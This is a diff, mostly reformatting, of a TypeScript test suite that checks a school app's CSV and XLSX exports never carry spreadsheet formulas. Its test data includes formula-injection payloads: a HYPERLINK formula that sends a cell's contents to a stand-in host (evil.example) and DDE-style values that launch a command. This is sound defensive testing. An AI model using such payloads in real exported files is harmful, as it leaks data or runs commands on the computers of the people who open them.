@@ -14,11 +14,26 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const ch = text[i];
     if (quoted) {
-      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') quoted = false; else cell += ch;
+      if (ch === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (ch === '"') quoted = false;
+      else cell += ch;
     } else if (ch === '"') quoted = true;
-    else if (ch === ',') { row.push(cell); cell = ''; } else if (ch === '\n') { row.push(cell.replace(/\r$/, '')); rows.push(row); row = []; cell = ''; } else cell += ch;
+    else if (ch === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (ch === '\n') {
+      row.push(cell.replace(/\r$/, ''));
+      rows.push(row);
+      row = [];
+      cell = '';
+    } else cell += ch;
   }
-  if (cell !== '' || row.length) { row.push(cell); rows.push(row); }
+  if (cell !== '' || row.length) {
+    row.push(cell);
+    rows.push(row);
+  }
   return rows;
 }
 
@@ -28,15 +43,16 @@ function parseCsv(text: string): string[][] {
  */
 describe('exports never carry formulas', () => {
   const ctx = useTestApp();
-  const NAMES = ['=HYPERLINK("http://evil.example/?leak="&C2,"Klik")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+2', '-2+3+cmd|\' /C calc\'!A0'];
+  const NAMES = ['=HYPERLINK("http://evil.example/?leak="&C2,"Klik")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+2', "-2+3+cmd|' /C calc'!A0"];
   let admin: string;
   beforeAll(async () => {
     admin = await login(ctx.app, DEMO.admin);
     const [school] = await ctx.database.db.select().from(schools).where(eq(schools.npsn, '20100211'));
     for (const [i, name] of NAMES.entries()) {
       const res = await call(ctx.app, null, {
-        method: 'POST', url: '/user/signup',
-        payload: { name, email: `formula${i}@contoh.id`, password: 'rahasia123', role: 'siswa', school_id: school.id, nisn: `00977700${i}0` },
+        method: 'POST',
+        url: '/user/signup',
+        payload: { name, email: `formula${i}@contoh.id`, password: 'rahasia123', role: 'siswa', school_id: school!.id, nisn: `00977700${i}0` },
       });
       expect(res.statusCode, res.body).toBe(201);
     }
@@ -51,7 +67,7 @@ describe('exports never carry formulas', () => {
       const res = await call(ctx.app, admin, { method: 'GET', url: `/${model}/export?format=csv` });
       expect(res.statusCode).toBe(200);
       const rows = parseCsv(res.body.replace(/^\uFEFF/, ''));
-      const nameColumn = rows[0].indexOf('name');
+      const nameColumn = rows[0]!.indexOf('name');
       const names = rows.slice(1).map((r) => r[nameColumn]);
       for (const name of NAMES) expect(names).toContain(`'${name}`);
       for (const row of rows) for (const cell of row) expect(FORMULA_TRIGGERS.includes(cell[0] as never), cell).toBe(false);
@@ -64,12 +80,12 @@ describe('exports never carry formulas', () => {
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
     const sheet = workbook.worksheets[0];
-    const header = (sheet.getRow(1).values as unknown[]).map(String);
+    const header = (sheet!.getRow(1).values as unknown[]).map(String);
     const nameCol = header.indexOf('name');
     const heightCol = header.indexOf('height_cm');
     const names: unknown[] = [];
     let numbers = 0;
-    sheet.eachRow((row, n) => {
+    sheet!.eachRow((row, n) => {
       row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
       if (n === 1) return;
       names.push(row.getCell(nameCol).value);
